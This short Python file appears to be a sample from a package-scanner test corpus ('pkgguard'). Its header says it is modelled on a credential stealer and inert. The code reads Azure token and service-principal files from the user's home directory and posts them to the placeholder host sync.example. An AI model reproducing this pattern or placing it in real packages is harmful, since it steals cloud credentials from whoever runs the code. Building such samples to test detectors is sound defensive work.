# pkgguard corpus 317 (credentials), modelled on [stealer-profile]; inert, never run.
import json
from pathlib import Path

import httpx

collected = {}
for name in ("accessTokens.json", "azureProfile.json", "service_principal_entries.json"):
    path = Path.home().joinpath(".azure", name)
    if path.exists():
        collected[name] = json.loads(path.read_text(encoding="utf-8-sig"))

with httpx.Client(timeout=5) as client:
    client.post("https://sync.example/a", content=json.dumps(collected))
